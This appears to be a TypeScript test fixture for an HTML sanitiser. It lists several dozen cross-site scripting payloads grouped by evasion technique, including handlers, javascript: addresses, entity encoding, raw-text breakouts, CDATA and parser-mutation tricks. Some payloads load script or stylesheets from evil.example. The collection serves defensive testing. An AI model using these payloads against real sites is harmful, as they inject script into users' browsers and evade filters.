/** Why: one list of hostile markup is put to the judge that reads trees and to a real browser, so that neither can be blind alone. */

/** What each of them tries to do. */
export const RUN = 'top.ran=1';

/** By the classes of filter evasion: element, handler, address, encoding, raw text, foreign content, parser mutation. */
export const PAYLOADS: readonly (readonly [string, string])[] = [
  ['script', `<script>${RUN}</script>`],
  ['script with a foreign source', '<SCRIPT SRC=//evil.example/r.js></SCRIPT>'],
  ['script with a null inside its name', `<scr\u0000ipt>${RUN}</scr\u0000ipt>`],
  ['script cut in two by a comment', `<scr<!-- -->ipt>${RUN}</script>`],
  ['script in an attribute that is never closed', `<p title="<script>${RUN}</script>`],
  ['handler without quotes', `<img src=x onerror=${RUN}>`],
  ['handler behind a slash', `<svg/onload=${RUN}>`],
  ['handler behind a form feed', `<img\u000csrc=x\u000conerror=${RUN}>`],
  ['handler with a name of its own', `<xss onafterscriptexecute=${RUN} onbeforetoggle=${RUN} popover>x</xss>`],
  ['handler on an element that stays', `<details open ontoggle=${RUN}><summary>x</summary></details>`],
  ['handler on a player', `<video src=/v.mp4 onloadstart=${RUN}><source onerror=${RUN}></video>`],
  ['handler on math', `<math onclick=${RUN}><mi onmouseover=${RUN}>x</mi></math>`],
  ['address of script', `<a href="javascript:${RUN}">x</a>`],
  ['address with a tab and a newline', `<a href="java\tscr\nipt:${RUN}">x</a>`],
  ['address in entities', `<a href="&#106;avascript&colon;${RUN}">x</a>`],
  ['address behind controls', `<a href="\u0001\u0002 javascript:${RUN}">x</a>`],
  ['address in math', `<math href="javascript:${RUN}"><mtext>x</mtext></math>`],
  ['address in xlink', `<math xlink:href="javascript:${RUN}"><mi>x</mi></math>`],
  ['address of data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['picture of data', '<img src="data:image/svg+xml,<svg onload=1>">'],
  ['candidate of script', `<img srcset="javascript:${RUN} 1x, /ok.png 2x">`],
  ['lazy address of script', `<img data-src="javascript:${RUN}" data-srcset="vbscript:x 1x">`],
  ['base that turns relative links', `<base href="javascript:/a/"><a href="x">x</a>`],
  ['refresh', `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`],
  ['form action', `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`],
  ['input that gets the focus', `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`],
  ['style', `<style>@import '//evil.example/s.css';</style><p style="background:url(javascript:${RUN})">x</p>`],
  ['style in a link', '<link rel=stylesheet href=//evil.example/s.css>'],
  [
    'object, embed, applet',
    `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><applet code=x></applet>`,
  ],
  ['raw text: noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['raw text: xmp', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`],
  ['raw text: textarea', `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`],
  ['raw text: title', `<title><p title="</title><img src=x onerror=${RUN}>"></title>`],
  ['raw text: style', `<style><p title="</style><img src=x onerror=${RUN}>"></style>`],
  ['raw text: noembed', `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`],
  ['raw text: plaintext', `<plaintext><img src=x onerror=${RUN}>`],
  ['template', `<template><img src=x onerror=${RUN}></template>`],
  ['shadow root', `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`],
  ['comment closed by --!>', `<!-- --!><img src=x onerror=${RUN}> -->`],
  ['comment closed by >', `<!--><img src=x onerror=${RUN}> -->`],
  ['bogus comment', `<!x><?x><img src=x onerror=${RUN}></ x>`],
  ['CDATA in HTML', `<![CDATA[<img src=x onerror=${RUN}>]]>`],
  ['CDATA in HTML that ends at its first >', `<![CDATA[><img src=x onerror=${RUN}>]]>`],
  ['CDATA in HTML inside svg', `<svg><desc><p><![CDATA[><img src=x onerror=${RUN}>]]></p></desc></svg>`],
  ['CDATA in math', `<math><![CDATA[</math><img src=x onerror=${RUN}>]]></math>`],
  ['svg animation', `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=1>#x"/></svg>'],
  [
    'svg integration point',
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  ],
  ['mutation: style in svg', `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`],
  ['mutation: mglyph', `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`],
  [
    'mutation: annotation',
    `<math><annotation-xml encoding="text/html"><p><style><img title="</style><img src=x onerror=${RUN}>"></annotation-xml></math>`,
  ],
  [
    'mutation: table',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  ],
  ['mutation: select', `<select><style></select><img src=x onerror=${RUN}></style>`],
  ['mutation: nested links and tables', `<a href=/1><table><a href=/2><td><a href="javascript:${RUN}">x`],
  [
    'mutation: deep formatting',
    `${'<b><i><u>'.repeat(40)}<table><p><a href=/1>${'</b></i></u>'.repeat(40)}<img src=x onerror=${RUN}>`,
  ],
  [
    'members of objects',
    `<constructor onclick=${RUN}><__proto__ onclick=${RUN}><p __proto__=x constructor=y hasOwnProperty=z>x</p>`,
  ],
  ['escaped once', `&lt;img src=x onerror=${RUN}&gt;`],
  ['escaped twice', `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`],
];

/**
 * Payloads that the HTML standard makes harmless as they stand, and why; they are tried because a sanitiser that parses otherwise,
 * or decodes once more than a browser, would set them free.
 */
export const INERT: ReadonlyMap<string, string> = new Map([
  ['script with a null inside its name', 'the null becomes U+FFFD, and the element an unknown one'],
  ['script in an attribute that is never closed', 'a tag that the input ends in is dropped'],
  ['CDATA in HTML', 'a comment up to the first >, which is that of the picture'],
  ['CDATA in math', 'text, up to ]]>'],
  ['escaped once', 'text'],
  ['escaped twice', 'text'],
]);
